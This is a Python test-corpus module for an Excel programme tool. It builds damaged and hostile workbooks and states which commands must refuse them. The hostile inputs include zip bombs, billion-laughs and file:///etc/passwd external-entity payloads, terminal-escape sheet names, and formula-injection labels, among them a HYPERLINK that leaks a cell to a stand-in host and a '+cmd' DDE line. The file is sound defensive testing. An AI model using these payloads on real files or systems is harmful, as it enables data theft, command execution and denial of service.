"""The corpus of bad inputs: every case, how to make it, and what each command must do with it.

Each ``Case`` builds one input file (generated, never committed) and says, for each of the five
commands in ``COMMANDS``, whether it must work or stop with exit code 2 and a French line holding
a given keyword. ``tests/trust/test_corpus.py`` runs every case × command and checks the
outcome, that the input keeps its bytes and that nothing else is left behind;
``bench/trust_figures.py`` counts them.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable
from xml.sax.saxutils import escape

from tests.conftest import HEADER
from tests.trust import builders as b

#: Outcome "works" (as opposed to a refusal keyword).
OK = "ok"
WRITE_COMMANDS = ("refresh", "refresh-o", "report")
READ_COMMANDS = ("validate", "summary")
COMMANDS = READ_COMMANDS + WRITE_COMMANDS

#: Labels that a spreadsheet would run as formulas if they were written as formulas.
FORMULA_LABELS = ['=HYPERLINK("http://exemple.invalid/?v="&A1,"Cliquez ici")',
                  "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "=1+1", "=SOMME(E2:E9)"]
CONTROL_LABEL = "Action\x01 avec\x07 des\x0b caractères\x1b de contrôle\x00 et\ttab"
LONG_LABEL = "Action très longue " + "x" * (32_767 - 19)


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], Path]
    what: str
    #: keyword of the refusal of every command (alternatives separated by |); None: they work
    refused: str | None = None
    #: keyword of the refusal of refresh and report only (validate and summary work)
    write_refused: str | None = None
    #: per command: OK or a refusal keyword, overriding the two above
    only: dict[str, str] = field(default_factory=dict)
    #: validate's exit code when it works (None: 0 or 1)
    validate_exit: int | None = None
    sheet: str | None = None
    #: extra checks on the files written by refresh and report: check(paths)
    check: Callable[[list[Path]], None] | None = None
    #: made once per test session (costly): the commands in ``slow`` are only run with
    #: MOTXL_TRUST_SLOW=1
    session: bool = False
    slow: tuple[str, ...] = ()
    #: Excel's lock file beside the input (the workbook is open in Excel)
    locked: bool = False
    #: run as a real process even in test_corpus (a crash would take pytest down with it)
    isolate: bool = False
    #: known bugs in files this suite does not own: command → reason (strict xfail)
    xfail: dict[str, str] = field(default_factory=dict)

    def expected(self, command: str) -> str:
        if command in self.only:
            return self.only[command]
        if self.refused:
            return self.refused
        if self.write_refused and command in WRITE_COMMANDS:
            return self.write_refused
        return OK


# --------------------------------------------------------------------------- helpers


def _base(folder: Path) -> bytes:
    return b.programme(folder / "_base.xlsx").read_bytes()


def _bytes(name: str, make: Callable[[Path], bytes]) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(make(folder))
        return path

    return build


def _rows(name: str, rows, header=HEADER, sheet="Programme", extra=None
          ) -> Callable[[Path], Path]:
    return lambda folder: b.programme(folder / name, rows=rows, header=header, sheet=sheet,
                                      extra_sheets=extra)


def _changed(name: str, change: dict, add: dict | None = None) -> Callable[[Path], Path]:
    return _bytes(name, lambda folder: b.rezip(_base(folder), change, add))


def _xlsx_parts(paths: list[Path]):
    for path in paths:
        if path.suffix.lower() in (".xlsx", ".xlsm"):
            with zipfile.ZipFile(path) as archive:
                for name in archive.namelist():
                    if name.endswith(".xml"):
                        yield path, name, archive.read(name)


def check_labels_stay_text(paths: list[Path]) -> None:
    """No label that looks like a formula became one, and each is still there as text."""
    markers = [b"HYPERLINK", b"cmd|", b"2+3", b"SUM(A1)", b"1+1", b"SOMME(E2"]
    seen_text = b""
    for path, name, data in _xlsx_parts(paths):
        for formula in re.findall(rb"<(?:\w+:)?f\b[^>]*>([^<]*)<", data):
            assert not any(m in formula for m in markers), (path.name, name, formula)
        seen_text += data
    for label in ('HYPERLINK("http://exemple.invalid', "+cmd|' /C calc'!A0", "-2+3",
                  "@SUM(A1)"):
        assert escape(label, {'"': "&quot;"}).encode() in seen_text \
            or escape(label).encode() in seen_text, label


def check_cells_within_excel_limits(paths: list[Path]) -> None:
    """Every text cell written fits Excel's 32,767 characters and has no control character."""
    import python_calamine

    for path in paths:
        if path.suffix.lower() not in (".xlsx", ".xlsm"):
            continue
        workbook = python_calamine.CalamineWorkbook.from_path(str(path))
        for sheet in workbook.sheet_names:
            for row in workbook.get_sheet_by_name(sheet).to_python():
                for value in row:
                    if isinstance(value, str):
                        assert len(value) <= 32_767, (path.name, sheet)


# --------------------------------------------------------------------------- builders


def _merged(folder: Path) -> Path:
    """Merges across the header, the labels and the codes, as people do to "tidy" a sheet."""
    import xlsxwriter

    path = folder / "fusions.xlsx"
    workbook = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
    sheet = workbook.add_worksheet("Programme")
    sheet.merge_range(0, 0, 0, 1, "Titre fusionné sur deux colonnes")
    sheet.write_row(1, 0, HEADER)
    sheet.merge_range(2, 0, 3, 0, "1")  # a code merged over two rows
    sheet.merge_range(2, 1, 2, 10, "[SOCLE] AXE 1 fusionné sur toute la ligne")
    sheet.write_row(3, 1, ["Action sous une fusion", "Anne", "Socle", 2, 100])
    sheet.write_row(4, 0, ["1.1", "OBJECTIF"])
    sheet.merge_range(5, 1, 6, 1, "Action fusionnée sur deux lignes")
    sheet.write_string(5, 0, "1.1")
    sheet.write_string(6, 0, "1.1")
    sheet.merge_range(5, 4, 6, 4, 3)
    workbook.close()
    return path


def _formulas_and_errors(folder: Path) -> Path:
    """A formula and an error value in every column, with their cached results."""
    import xlsxwriter

    path = folder / "formules-erreurs.xlsx"
    workbook = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
    sheet = workbook.add_worksheet("Programme")
    sheet.write_row(0, 0, HEADER)
    sheet.write_row(1, 0, ["1", "[SOCLE] AXE"])
    sheet.write_row(2, 0, ["1", "Action normale", "Anne", "Socle", 2, 100, 1, 50, "En cours"])
    errors = ["#REF!", "#DIV/0!", "#N/A", "#VALUE!", "#NAME?", "#NUM!", "#NULL!", "#REF!",
              "#N/A", "#VALUE!", "#DIV/0!"]
    for col in range(len(HEADER)):
        sheet.write_formula(3, col, "=1/0" if col % 2 else "=#REF!", None, errors[col])
        sheet.write_formula(4, col, '=A3&""' if col < 2 else "=E3*2", None,
                            "1" if col == 0 else "Action calculée" if col == 1 else 4)
    workbook.close()
    return path


def _dates_as_text(folder: Path) -> Path:
    rows = [["1", "[SOCLE] AXE"]]
    for i, text in enumerate(["31/12/2023", "2023-06-30", "30 juin 2023", "fin juin",
                              "45000", "31.12.2023"]):
        rows.append(["1", f"Action {i}", "Anne", "Socle", 1, 10, 0, 0, "En cours", text])
    return b.programme(folder / "dates-texte.xlsx", rows=rows)


def _numbers_as_text(folder: Path) -> Path:
    rows = [["1", "[SOCLE] AXE"]]
    for i, text in enumerate(["1 234,50", "1\u202f234,50", "1.234,50", "12 %", "300 €",
                              "€ 300", "1,5", " 7 ", "1e3", "-0"]):
        rows.append(["1", f"Action {i}", "Anne", "Socle", text, text, text, text, "En cours"])
    rows.append(["1", "Action chiffrée", "Anne", "Socle", 2, 1234.5, 1, 100, "En cours"])
    return b.programme(folder / "nombres-texte.xlsx", rows=rows)


def _big(folder: Path, actions: int = 100_000) -> Path:
    """A programme of ``actions`` actions, its sheet XML written straight (XlsxWriter takes
    seconds per 100,000 rows; the other parts come from motxl's writer)."""
    from motxl.core.grid import column_letter
    from motxl.workbooks.sample import sample_rows

    base = _base(folder)
    style = re.search(rb'<c r="J\d+" s="(\d+)"', dict(
        (i.filename, d) for i, d in b.zip_parts(base))[b.SHEET]).group(1).decode()
    epoch = dt.date(1899, 12, 30)
    letters = [column_letter(c) for c in range(1, len(HEADER) + 1)]
    out = []
    for r, row in enumerate(sample_rows(actions), start=1):
        cells = []
        for letter, value in zip(letters, row):
            if value is None:
                continue
            if isinstance(value, dt.date):
                cells.append(f'<c r="{letter}{r}" s="{style}"><v>{(value - epoch).days}</v></c>')
            elif isinstance(value, (int, float)):
                cells.append(f'<c r="{letter}{r}"><v>{value}</v></c>')
            else:
                cells.append(f'<c r="{letter}{r}" t="inlineStr"><is><t>{escape(value)}</t>'
                             '</is></c>')
        out.append(f'<row r="{r}">{"".join(cells)}</row>')
    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet '
           'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
           'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
           f'<sheetData>{"".join(out)}</sheetData></worksheet>').encode()
    path = folder / "100000-lignes.xlsx"
    path.write_bytes(b.rezip(base, {b.SHEET: lambda _: xml}, level=1))
    return path


def _wide(folder: Path) -> Path:
    """16,384 columns: the header row filled up to XFD, and a value in XFD on an action row."""
    header = list(HEADER) + [f"Colonne {c}" for c in range(len(HEADER) + 1, 16_385)]
    rows = [list(r) for r in b.GOOD_ROWS]
    rows[2] = rows[2] + [None] * (16_384 - len(rows[2]) - 1) + ["valeur en XFD"]
    return b.programme(folder / "16384-colonnes.xlsx", rows=rows, header=header)


def _far_cell(name: str, row: int, col: int) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        import xlsxwriter

        path = folder / name
        workbook = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
        sheet = workbook.add_worksheet("Programme")
        sheet.write_row(0, 0, HEADER)
        for r, values in enumerate(b.GOOD_ROWS, start=1):
            sheet.write_row(r, 0, [v for v in values if not isinstance(v, dt.date)])
        sheet.write_string(row - 1, col - 1, "x")
        workbook.close()
        return path

    return build


def _styled_far_blank(folder: Path) -> Path:
    """A formatted but empty XFD1048576 (and a formula without a cached value): no value there,
    so nothing far to read."""
    import xlsxwriter

    path = folder / "XFD1048576-formatee.xlsx"
    workbook = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
    sheet = workbook.add_worksheet("Programme")
    sheet.write_row(0, 0, HEADER)
    for r, values in enumerate(b.GOOD_ROWS, start=1):
        sheet.write_row(r, 0, [v for v in values if not isinstance(v, dt.date)])
    sheet.write_blank(1_048_575, 16_383, None, workbook.add_format({"bold": True}))
    sheet.write_formula(1_048_575, 16_382, "=1+1", None, "")
    workbook.close()
    return path


def _wide_and_long(folder: Path) -> Path:
    """3,000 actions and one value in XFD1: 49 million cells for calamine."""
    rows = [["1", "[SOCLE] AXE"]] + [["1", f"Action {i}", "Anne", "Socle", 1]
                                     for i in range(3_000)]
    path = b.programme(folder / "_long.xlsx", rows=rows)
    out = folder / "XFD1-et-3000-lignes.xlsx"
    out.write_bytes(b.rezip(path.read_bytes(), {b.SHEET: lambda d: d.replace(
        b"</row>", b'<c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>', 1)}))
    return out


def _far_in_other_sheet(folder: Path) -> Path:
    """A valid programme, and a Notes sheet with a value in XFD1048576."""
    path = b.programme(folder / "_autre.xlsx", extra_sheets={"Notes": [["note"]]})
    out = folder / "autre-feuille-XFD1048576.xlsx"
    out.write_bytes(b.rezip(path.read_bytes(), {"xl/worksheets/sheet2.xml": lambda d: d.replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is>'
        b"</c></row></sheetData>")}))
    return out


def _cells_without_references(folder: Path) -> Path:
    """Cells written without their r="A1" reference (allowed; some generators do it)."""
    def strip(xml: bytes) -> bytes:
        return re.sub(rb'(<c) r="[A-Z]+[0-9]+"', rb"\1", xml)

    return _changed("cellules-sans-reference.xlsx", {b.SHEET: strip})(folder)


def _xlsm(folder: Path) -> Path:
    from tests.workbooks import make_xlsm

    return make_xlsm(folder / "Programme2023.xlsm")


def _corrupt_crc(folder: Path) -> bytes:
    data = bytearray(_base(folder))
    with zipfile.ZipFile(folder / "_base.xlsx") as archive:
        info = archive.getinfo(b.SHEET)
    start = info.header_offset + 30 + len(info.filename) + 40
    data[start] ^= 0x55
    return bytes(data)


def _hidden(folder: Path) -> Path:
    def hide(xml: bytes) -> bytes:
        return xml.replace(b'<sheet name="Programme"', b'<sheet name="Programme" state="hidden"')

    path = b.programme(folder / "_hidden.xlsx", extra_sheets={"Notes": [["visible"]]})
    out = folder / "feuille-masquee.xlsx"
    out.write_bytes(b.rezip(path.read_bytes(), {"xl/workbook.xml": hide}))
    return out


def _chartsheet(folder: Path) -> Path:
    import xlsxwriter

    path = folder / "feuille-graphique.xlsx"
    workbook = xlsxwriter.Workbook(str(path))
    data = workbook.add_worksheet("Données")
    data.write_column(0, 0, [1, 2, 3])
    chartsheet = workbook.add_chartsheet("Programme")
    chart = workbook.add_chart({"type": "bar"})
    chart.add_series({"values": "=Données!$A$1:$A$3"})
    chartsheet.set_chart(chart)
    workbook.close()
    return path


def _numeric_codes(folder: Path) -> Path:
    rows = [[1, "[SOCLE] AXE"], [1.1, "OBJECTIF"], [1.1, "Action A", "Anne", "Socle", 1, 10],
            [1.2, "OBJECTIF 2"], [1.2, "Action B", "Paul", "Socle", 2, 20],
            [2, "[SUR-MESURE] AXE 2"], [2, "Action C", "Marc", "Sur-mesure", 3, 30]]
    return b.programme(folder / "codes-nombres.xlsx", rows=rows)


def _odd_values(folder: Path) -> Path:
    """Numbers no Excel writes (NaN, 1e999) and a negative number in a date-formatted cell."""
    def change(xml: bytes) -> bytes:
        xml = b.set_cell(xml, "E4", b'<c r="E4"><v>NaN</v></c>')
        xml = b.set_cell(xml, "F4", b'<c r="F4"><v>1e999</v></c>')
        return b.set_cell(xml, "E5", b'<c r="E5" s="1"><v>-5</v></c>')

    return _changed("nombres-non-finis.xlsx", {b.SHEET: change})(folder)


def _empty_workbook(folder: Path) -> Path:
    import xlsxwriter

    path = folder / "classeur-vide.xlsx"
    workbook = xlsxwriter.Workbook(str(path))
    workbook.add_worksheet("Programme")
    workbook.close()
    return path


def _no_sheets(xml: bytes) -> bytes:
    return re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", xml, flags=re.S)


def _truncated_xml(xml: bytes) -> bytes:
    return xml[: len(xml) // 2]


def _doctype(where: str, doctype: bytes, entity: bytes, *, pad: int = 0, utf16: bool = False):
    def change(xml: bytes) -> bytes:
        if where == b.SHEET:  # use the entity in an inline string
            xml = b.set_cell(xml, "B3", b'<c r="B3" t="inlineStr"><is><t>x</t></is></c>')
        xml = b.with_entity(xml, doctype, entity, pad=pad)
        return b.utf16(xml) if utf16 else xml

    return {where: change}


def _far_without_references(folder: Path) -> Path:
    """A row 1048576 of 16,384 cells without references: calamine places them one after the
    other, so the block is as large as for XFD1048576 although no far reference is written."""
    row = b'<row r="1048576">' + b"<c><v>1</v></c>" * 16_384 + b"</row>"

    def change(xml: bytes) -> bytes:
        return xml.replace(b"</sheetData>", row + b"</sheetData>")

    return _changed("loin-sans-reference.xlsx", {b.SHEET: change})(folder)


def _lying_dimension(xml: bytes) -> bytes:
    return re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', xml)


MARKUP_ROWS = [["1", "[SOCLE] AXE [red]rouge[/red]"],
               ["1", "Action [/bold] fermée", "[/i]Anne", "Socle", 1, 10, 0, 0, "[/]"],
               [None, "[link=http://exemple.invalid]sans code[/link]"]]


def _many_parts(folder: Path) -> bytes:
    """25,000 empty parts beside a valid workbook: a zip directory bomb."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for info, data in b.zip_parts(_base(folder)):
            archive.writestr(info.filename, data)
        for i in range(25_000):
            archive.writestr(f"x/{i}", b"")
    return buffer.getvalue()


def _html_as_xls(folder: Path) -> bytes:
    return ("<html><body><table><tr><td>Axe</td><td>Libellé</td></tr></table></body>"
            "</html>").encode()


# --------------------------------------------------------------------------- the corpus

CASES: list[Case] = [
    # --- references: the harness itself must see these work
    Case("programme-valide", _rows("programme-valide.xlsx", b.GOOD_ROWS),
         "a small valid programme", validate_exit=0),
    Case("programme-xlsm", _xlsm, "a macro-enabled programme with buttons and other sheets"),
    # --- not a workbook, or not one motxl can read
    Case("vide", _bytes("vide.xlsx", lambda f: b""), "an empty file (0 bytes)",
         refused="n'est pas un classeur Excel"),
    Case("texte", _bytes("texte.xlsx", lambda f: "Axe;Libellé\n1;Action\n".encode()),
         "a CSV text renamed .xlsx", refused="n'est pas un classeur Excel"),
    Case("tronque-moitie", _bytes("tronque-moitie.xlsx", lambda f: _base(f)[: len(_base(f)) // 2]),
         "a workbook cut in half (interrupted copy)", refused="endommagé"),
    Case("tronque-fin", _bytes("tronque-fin.xlsx", lambda f: _base(f)[:-10]),
         "a workbook missing its last 10 bytes", refused="endommagé"),
    Case("octets-aleatoires", _bytes("octets-aleatoires.xlsx",
                                     lambda f: b"PK\x03\x04" + bytes(range(256)) * 40),
         "zip magic followed by garbage", refused="endommagé"),
    Case("zip-sans-classeur", _bytes("zip-sans-classeur.xlsx",
                                     lambda f: b.zip_bytes({"hello.txt": b"bonjour"})),
         "a zip that is not a workbook", refused="pas un classeur Excel"),
    Case("ancien-xls", _bytes("ancien.xls", lambda f: b.old_xls()),
         "an Excel 97-2003 .xls (compound file)", refused="format .xls ancien"),
    Case("html-xls", _bytes("export.xls", _html_as_xls),
         "an HTML table saved as .xls (web exports)", refused="format .xls ancien"),
    Case("protege", _bytes("protege.xlsx", lambda f: b.password_protected(_base(f))),
         "a password-protected workbook (msoffcrypto-tool)", refused="mot de passe"),
    Case("xlsb", _bytes("binaire.xlsx", lambda f: b.zip_bytes({
        "[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x83\x01\x00"})),
         "an .xlsb binary workbook", refused=".xlsb"),
    Case("mauvaise-extension", _bytes("programme.csv", lambda f: _base(f)),
         "a valid workbook named .csv", refused="extension"),
    Case("dossier", lambda f: (f / "dossier.xlsx").mkdir() or f / "dossier.xlsx",
         "a folder named like a workbook", refused="dossier"),
    Case("absent", lambda f: f / "absent.xlsx", "a file that does not exist",
         refused="introuvable"),
    # --- damaged inside
    Case("crc-faux", _bytes("crc-faux.xlsx", _corrupt_crc),
         "one byte of the sheet changed inside the zip", refused="endommagé"),
    Case("types-absents", _changed("types-absents.xlsx", {"[Content_Types].xml": lambda d: None}),
         "[Content_Types].xml missing", refused="endommagé"),
    Case("feuille-absente", _changed("feuille-absente.xlsx", {b.SHEET: lambda d: None}),
         "the sheet's part missing from the zip", refused="manque"),
    Case("chaines-absentes", _changed("chaines-absentes.xlsx", {b.STRINGS: lambda d: None}),
         "sharedStrings.xml missing", refused="illisible"),
    Case("xml-casse", _changed("xml-casse.xlsx", {b.SHEET: _truncated_xml}),
         "the sheet XML cut in the middle", refused="illisible"),
    Case("aucune-feuille", _changed("aucune-feuille.xlsx", {"xl/workbook.xml": _no_sheets}),
         "a workbook.xml listing no sheet", refused="aucune feuille"),
    # --- security: bombs and entities
    Case("bombe-zip", lambda f: b.zip_bomb(f / "bombe-zip.xlsx", _base(f)),
         "1.1 MB that inflates to 1.1 GB (sizes declared)", refused="volume anormal",
         session=True),
    Case("bombe-zip-menteuse", lambda f: b.zip_bomb(f / "bombe-menteuse.xlsx", _base(f),
                                                    lying=True),
         "the same bomb declaring a small size", refused="volume anormal", session=True),
    Case("trop-de-parties", _bytes("trop-de-parties.xlsx", _many_parts),
         "25,000 empty parts (a zip directory bomb)", refused="parties"),
    Case("milliard-de-rires-feuille", _changed("rires-feuille.xlsx", _doctype(
        b.SHEET, b.BILLION_LAUGHS, b"lol9")), "billion laughs DOCTYPE in the sheet XML",
         refused="interdite"),
    Case("milliard-de-rires-chaines", _changed("rires-chaines.xlsx", _doctype(
        b.STRINGS, b.BILLION_LAUGHS, b"lol9")), "billion laughs in sharedStrings",
         refused="interdite"),
    Case("rires-apres-commentaire", _changed("rires-loin.xlsx", _doctype(
        b.STRINGS, b.BILLION_LAUGHS, b"lol9", pad=10_000)),
         "the DOCTYPE behind a 10 KB comment", refused="interdite"),
    Case("rires-utf16", _changed("rires-utf16.xlsx", _doctype(
        b.STRINGS, b.BILLION_LAUGHS, b"lol9", utf16=True)),
         "the DOCTYPE in a UTF-16 sharedStrings", refused="interdite"),
    Case("entite-externe", _changed("entite-externe.xlsx", _doctype(
        b.SHEET, b.EXTERNAL_ENTITY, b"xxe")), 'SYSTEM "file:///etc/passwd" in the sheet XML',
         refused="interdite"),
    Case("entite-externe-proprietes", _changed("entite-proprietes.xlsx", {
        "docProps/core.xml": lambda d: b.after_declaration(d, b"<!--" + b"p" * 5000 + b"-->"
                                                           + b.EXTERNAL_ENTITY)}),
         "an external entity in docProps/core.xml, a part the programme reader skips",
         refused="interdite"),
    Case("doctype-partie-sans-xml", _bytes("doctype-dat.xlsx", lambda f: b.rename_sheet_part(
        b.rezip(_base(f), _doctype(b.SHEET, b.BILLION_LAUGHS, b"lol9")), "xl/worksheets/s1.dat")),
         "the DOCTYPE in a sheet part not named .xml", refused="interdite"),
    Case("cellule-XFD1048576", _far_cell("cellule-XFD1048576.xlsx", 1_048_576, 16_384),
         "a value in the last cell: calamine would allocate 17 billion cells",
         refused="Ctrl+Fin"),
    Case("ligne-1048576", _far_cell("ligne-1048576.xlsx", 1_048_576, 1),
         "a stray value in A1048576", refused="Ctrl+Fin"),
    # --- readable workbooks that are not a programme
    Case("feuille-nom-echappement", _changed("feuille-echappement.xlsx", {
        "xl/workbook.xml": lambda d: d.replace(b'name="Programme"',
                                               b'name="Pro&#27;[2J&#10;g&#x202e;ramme2"')}),
         "a sheet name holding ESC, a line break and a bidi override (terminal injection)",
         refused="n'a pas de feuille"),
    Case("sans-feuille-programme", _rows("sans-feuille.xlsx", b.GOOD_ROWS, sheet="Feuil1"),
         "no sheet named Programme", refused="n'a pas de feuille « Programme »"),
    Case("classeur-vide", _empty_workbook, "an empty Programme sheet",
         refused="n'a pas d'en-tête"),
    Case("feuille-graphique", _chartsheet, "Programme is a chart sheet", refused="graphique"),
    Case("entetes-renommes", _rows("entetes-renommes.xlsx", b.GOOD_ROWS,
                                   header=["N°", "Intitulé", *HEADER[2:]]),
         "code and label headers renamed", refused="n'a pas d'en-tête"),
    Case("entetes-doubles", _rows("entetes-doubles.xlsx", b.GOOD_ROWS,
                                  header=[*HEADER[:4], "Code", *HEADER[5:]]),
         "the code header written twice (Axe and Code)", refused="deux colonnes"),
    Case("colonne-optionnelle-double", _rows("jours-doubles.xlsx", b.GOOD_ROWS,
                                             header=[*HEADER[:4], "Jours prévus",
                                                     "Jours prévus", *HEADER[6:]]),
         "an optional header written twice: an error finding, the first column is read",
         validate_exit=1),
    Case("entete-ligne-40", _rows("entete-loin.xlsx", [[None]] * 39 + [list(HEADER)]
                                  + b.GOOD_ROWS, header=["Titre"]),
         "the header below row 30", refused="n'a pas d'en-tête"),
    # --- odd but readable programmes: every command works
    Case("entetes-partiels", _rows("entetes-partiels.xlsx", b.GOOD_ROWS,
                                   header=[*HEADER[:4], "Nb jours", "Montant", *HEADER[6:]]),
         "amount headers renamed (columns not found)"),
    Case("entete-seul", _rows("entete-seul.xlsx", []), "the header and no row",
         validate_exit=0),
    Case("fusions", _merged, "merged cells across header, labels and codes"),
    Case("formules-erreurs", _formulas_and_errors,
         "formulas and error values in every column", validate_exit=1),
    Case("dates-texte", _dates_as_text, "deadlines typed as text"),
    Case("nombres-texte", _numbers_as_text, "amounts typed as text (1 234,50...)",
         validate_exit=1),
    Case("nombres-non-finis", _odd_values, "NaN, 1e999 and a negative date in amounts",
         validate_exit=1),
    Case("codes-nombres", _numeric_codes, "codes typed as numbers (1, 1.1)"),
    Case("100000-lignes", _big, "100,000 actions", session=True,
         slow=("summary", "refresh", "refresh-o", "report")),
    Case("16384-colonnes", _wide, "header filled to XFD, a value in XFD", session=True),
    Case("libelles-32767", _rows("libelles-longs.xlsx", [["1", "[SOCLE] AXE"],
                                                         ["1", LONG_LABEL, "Anne", "Socle", 1]]),
         "a label of 32,767 characters", check=check_cells_within_excel_limits),
    Case("caracteres-controle", _rows("controle.xlsx", [["1", "[SOCLE] AXE\x01"],
                                                        ["1", CONTROL_LABEL, "An\x1bne"]]),
         "control characters in labels and names", check=check_cells_within_excel_limits),
    Case("libelles-formules", _rows("libelles-formules.xlsx", [["1", "[SOCLE] AXE"]] + [
        ["1", label, "Anne", "Socle", 1, 10] for label in FORMULA_LABELS]),
         "labels that look like formulas (=HYPERLINK, +cmd, -2+3, @SUM)",
         check=check_labels_stay_text),
    Case("cellules-sans-reference", _cells_without_references,
         "cells without their r= reference"),
    Case("loin-sans-reference", _far_without_references,
         "16,384 cells without references in row 1048576", refused="Ctrl+Fin"),
    Case("XFD1048576-formatee", _styled_far_blank,
         "XFD1048576 formatted but empty, a far formula without value"),
    Case("XFD1-et-3000-lignes", _wide_and_long, "3,000 actions and a value in XFD1",
         refused="Ctrl+Fin"),
    Case("autre-feuille-XFD1048576", _far_in_other_sheet,
         "a value in XFD1048576 of another sheet (found by fuzzing refresh)", isolate=True,
         write_refused="Ctrl+Fin", only={"report": OK}),
    Case("ligne-999999999", _changed("ligne-999999999.xlsx", {b.SHEET: lambda d: d.replace(
        b'r="B2"', b'r="B999999999"', 1)}), "a reference beyond Excel's last row (fuzzing)",
         refused="Ctrl+Fin"),
    Case("reference-minuscule", _changed("minuscule.xlsx", {b.SHEET: lambda d: d.replace(
        b'r="B3"', b'r="xfd1048576"', 1)}), "a lower-case far reference xfd1048576 (fuzzing)",
         refused="Ctrl+Fin"),
    Case("reference-apostrophes", _changed("apostrophes.xlsx", {b.SHEET: lambda d: d.replace(
        b'<c r="B3"', b"<c  r = 'XFD1048576'", 1)}), "a far reference in single quotes",
         refused="Ctrl+Fin"),
    Case("chaines-uniquecount", _changed("uniquecount.xlsx", {b.STRINGS: lambda d: re.sub(
        rb'uniqueCount="\d+"', b'uniqueCount="4294967295"', d)}),
         "sharedStrings announcing 4 billion texts (calamine reserves them)",
         refused="annonce"),
    Case("dimension-mensongere", _changed("dimension.xlsx", {b.SHEET: _lying_dimension}),
         "a <dimension> claiming A1:XFD1048576"),
    Case("crochets-markup", _rows("crochets.xlsx", MARKUP_ROWS),
         "labels, names and statuses holding rich markup ([/bold], [red]...)",
         validate_exit=1),
    Case("nom-de-fichier-crochets", _rows("Programme [v2] [bold].xlsx", b.GOOD_ROWS),
         "brackets in the file name ([v2], [bold])"),
    Case("feuille-masquee", _hidden, "the programme sheet hidden"),
    Case("nom-de-feuille-bizarre", _rows("feuille-bizarre.xlsx", b.GOOD_ROWS,
                                         sheet="Prog'ramme \"été\" 🌍"),
         "a sheet name with quotes and an emoji (--sheet)", sheet="Prog'ramme \"été\" 🌍"),
    Case("nom-de-fichier-bizarre", _rows("Programme été 🌍 (copie) #1.xlsx", b.GOOD_ROWS),
         "spaces, accents, emoji and # in the file name"),
    Case("nom-reserve", _rows("nom-reserve.xlsx", b.GOOD_ROWS, sheet="Synthèse"),
         "the programme sheet named Synthèse", sheet="Synthèse",
         only={"refresh": "réservé", "refresh-o": "réservé"}),
    Case("ouvert-dans-excel", _rows("ouvert-dans-excel.xlsx", b.GOOD_ROWS),
         "Excel's ~$ lock file beside it", locked=True,
         only={"refresh": "fermez"}),
]

BY_NAME = {case.name: case for case in CASES}
assert len(BY_NAME) == len(CASES)


def runs() -> list[tuple[Case, str]]:
    """Every (case, command) pair the corpus tries."""
    return [(case, command) for case in CASES for command in COMMANDS]
